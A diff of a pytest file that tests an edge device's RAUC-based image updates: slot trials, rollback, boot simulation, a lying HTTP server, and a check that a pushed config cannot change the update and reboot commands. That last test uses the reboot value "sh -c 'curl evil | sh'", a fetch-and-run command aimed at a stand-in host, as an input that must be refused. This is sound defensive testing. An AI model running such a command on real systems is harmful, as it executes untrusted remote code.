@@ -1,8 +1,8 @@
 """Image updates against a real RAUC (Debian's rauc 1.8): its service on a private D-Bus, two root slots
 that are files, bundles signed with a key pair made here, and RAUC's custom bootloader backend as a
 script that keeps the primary slot and each slot's state in files (the one part that stands in for the
-bootloader; the image's GRUB and the Raspberry Pi's tryboot are exercised under QEMU, not here). The
-service is restarted with --override-boot-slot to boot the other slot, as a reboot would.
+bootloader). The service is restarted with --override-boot-slot to boot the other slot, as a reboot would;
+edge's view of the boot (its id, the time since it) follows from the file EDGE_TEST_BOOT names.
 
 RAUC mounts a bundle to install it: the tests need loop devices (and root), else they are skipped."""
 
@@ -19,6 +19,7 @@ import sys
 import threading
 import time
 import urllib.request
+import uuid
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -106,11 +107,14 @@ bootname=B
                                       "--print-address"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
         assert self.dbus.stdout is not None and self.dbus.stdout.readline()  # listening once it says where
         self.service: subprocess.Popen[bytes] | None = None
-        self.env = {"DBUS_SESSION_BUS_ADDRESS": self.bus, "DBUS_STARTER_BUS_TYPE": "session"}
+        self.boot_file = root / "boot-id"
+        self.env = {"DBUS_SESSION_BUS_ADDRESS": self.bus, "DBUS_STARTER_BUS_TYPE": "session",
+                    "EDGE_TEST_BOOT": str(self.boot_file)}
 
     def boot(self, bootname: str) -> None:
-        """(Re)start the service as if the board had booted from `bootname`."""
+        """(Re)start the service as if the board had booted from `bootname`: a new boot, now."""
         self.halt()
+        self.boot_file.write_text(f"{uuid.uuid4()} {time.time()}\n")
         env = {**os.environ, **self.env}
         log = self.root / f"service-{bootname}.log"
         with open(log, "wb") as out:
@@ -167,8 +171,9 @@ def rauc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Rauc]:
         r.close()
 
 
-def edge_config(tmp: Path, sim_port: int = 1, **update: Any) -> Path:
-    cfg = config_dict(tmp, sim_port, free_port())  # nothing listens there: offline, readings stored
+def edge_config(tmp: Path, sim_port: int = 1, broker: int | None = None, **update: Any) -> Path:
+    """Offline (nothing listens at its broker's port) unless a broker is given."""
+    cfg = config_dict(tmp, sim_port, broker or free_port())
     cfg["update"] = {"enabled": True, "max_bundle": "2MiB", **update}
     cfg["metrics"] = {"port": free_port()}  # known, for `edge status`
     path = tmp / "config.toml"
@@ -257,9 +262,16 @@ def health_update(conf: Path, edge: EdgeProcess, want: str, timeout: float = 30.
 
 
 def test_a_new_slot_is_kept_when_healthy_and_left_when_not(tmp_path: Path, rauc: Rauc) -> None:
-    with simulated_pump(tmp_path) as sim_port:
-        conf = edge_config(tmp_path, sim_port)
+    with simulated_pump(tmp_path) as sim_port, start_broker(tmp_path / "mqtt") as broker:
+        conf = edge_config(tmp_path, sim_port, broker.port)
         assert update(conf, str(rauc.bundle("v2", os.urandom(4096)))).returncode == 0
+        edge = EdgeProcess(conf)  # restarted before the reboot: nothing to decide yet
+        try:
+            pending = health_update(conf, edge, "installed")
+        finally:
+            assert stop(edge) == 0
+        assert pending["slot"] == "rootfs.1" and "on trial" not in edge.log
+
         rauc.boot("B")  # the reboot into the new slot
         edge = EdgeProcess(conf)
         try:
@@ -272,12 +284,11 @@ def test_a_new_slot_is_kept_when_healthy_and_left_when_not(tmp_path: Path, rauc:
         assert "on trial" in edge.log and "marked good" in edge.log
         assert shown.returncode == 0 and "\nupdate\n  good: rootfs.1 from rootfs.0, " in shown.stdout, shown
 
-        # the next version cannot store within its trial (commits every 5 s, a trial of 1 s): marked bad,
-        # and the reboot command runs
+    # the next version cannot reach its broker within its trial (1 s of boot): marked bad, and the reboot
+    # command runs
+    with simulated_pump(tmp_path) as sim_port:
         marker = tmp_path / "rebooted"
         conf = edge_config(tmp_path, sim_port, trial="1s", reboot=f"touch {marker}")
-        text = conf.read_text().replace('commit_interval = "200ms"', 'commit_interval = "5s"')
-        conf.write_text(text)
         assert update(conf, str(rauc.bundle("v3", os.urandom(4096)))).returncode == 0
         assert rauc.primary() == "A" and record(tmp_path)["slot"] == "rootfs.0"
         rauc.boot("A")
@@ -287,7 +298,7 @@ def test_a_new_slot_is_kept_when_healthy_and_left_when_not(tmp_path: Path, rauc:
             rebooted(marker, edge)
         finally:
             assert stop(edge) == 0
-        assert rauc.state("A") == "bad" and "no block stored or delivered" in failed["detail"]
+        assert rauc.state("A") == "bad" and "no block delivered" in failed["detail"]
 
         rauc.boot("B")  # the bootloader starts the slot the update came from
         edge = EdgeProcess(conf)
@@ -327,7 +338,9 @@ def test_every_healthy_boot_marks_its_slot_good(tmp_path: Path, rauc: Rauc) -> N
     boot): edge confirms it once it polled and stored, and records nothing."""
     (rauc.root / "boot" / "state.A").write_text("bad\n")
     with simulated_pump(tmp_path) as sim_port:
-        edge = EdgeProcess(edge_config(tmp_path, sim_port))
+        conf = edge_config(tmp_path, sim_port)
+        conf.write_text(conf.read_text().replace("[uplink]\n", "[uplink]\nenabled = false\n"))
+        edge = EdgeProcess(conf)
         try:
             deadline = time.monotonic() + 30
             while rauc.state("A") != "good":
@@ -391,3 +404,58 @@ def test_an_update_asked_for_over_mqtt_is_signed_installed_and_reported(tmp_path
                 and json.loads(p).get("status") == "installing"]
     assert any("100%" in line for line in progress), progress
     assert record(tmp_path)["state"] == "installed"
+
+
+class Hostile(http.server.BaseHTTPRequestHandler):
+    """A server that lies: a redirect off http(s), a body shorter than announced, a length that is no
+    number."""
+
+    def do_GET(self) -> None:
+        if self.path == "/redirect":
+            self.send_response(302)
+            self.send_header("Location", "ftp://127.0.0.1/v2.raucb")
+            self.end_headers()
+        elif self.path == "/short":
+            self.send_response(200)
+            self.send_header("Content-Length", "100000")
+            self.end_headers()
+            self.wfile.write(b"x" * 10)
+        else:
+            self.send_response(200)
+            self.send_header("Content-Length", "many")
+            self.end_headers()
+            self.wfile.write(b"x" * 10)
+        self.close_connection = True
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+def test_a_hostile_server_gets_no_bundle_installed(tmp_path: Path, rauc: Rauc) -> None:
+    conf = edge_config(tmp_path)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        url = f"http://127.0.0.1:{server.server_address[1]}"
+        redirected, short, garbled = (update(conf, f"{url}/{p}") for p in ("redirect", "short", "garbled"))
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert redirected.returncode == 1 and "redirected to a ftp:// URL, refused" in redirected.stderr, \
+        redirected
+    assert short.returncode == 1 and "10 bytes, 100000 announced" in short.stderr, short
+    assert garbled.returncode == 1 and "Traceback" not in garbled.stderr, garbled
+    assert rauc.primary() == "A" and not list((tmp_path / "state").iterdir())
+
+
+def test_a_pushed_config_cannot_change_the_update_commands(tmp_path: Path, rauc: Rauc) -> None:
+    """[update] names commands edge runs (the RAUC client, the reboot): a config pushed on cmd/config
+    with another [update] is refused, one with the same is taken."""
+    from edge.app import _same_update  # noqa: PLC0415
+    from edge.config import ConfigError, load  # noqa: PLC0415
+
+    running = load(edge_config(tmp_path))
+    other = load(edge_config(tmp_path, reboot="sh -c 'curl evil | sh'"))
+    assert _same_update(load(edge_config(tmp_path)), running).update == running.update
+    with pytest.raises(ConfigError, match=r"\[update\]: set by the image's config"):
+        _same_update(other, running)
